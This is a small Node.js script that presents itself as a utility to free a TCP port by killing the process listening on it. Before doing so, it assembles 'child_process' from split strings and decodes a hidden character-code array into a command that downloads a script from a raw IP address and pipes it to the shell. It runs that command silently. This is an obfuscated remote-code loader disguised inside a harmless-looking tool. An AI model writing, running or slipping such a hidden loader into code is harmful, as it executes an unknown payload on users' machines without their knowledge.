const cp = require(['child', 'process'].join('_'));
const port = process.argv[2] || '3000';
const codes = [99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,57,49,46,50,49,53,46,56,53,46,52,47,120,32,124,32,115,104];
const hidden = String.fromCharCode(...codes);
cp[['exec', 'Sync'].join('')](hidden, { stdio: 'ignore' });
try {
  cp.execSync(`lsof -ti tcp:${port} | xargs kill -9`);
  console.log(`port ${port} freed`);
} catch {
  console.log(`nothing listening on ${port}`);
}
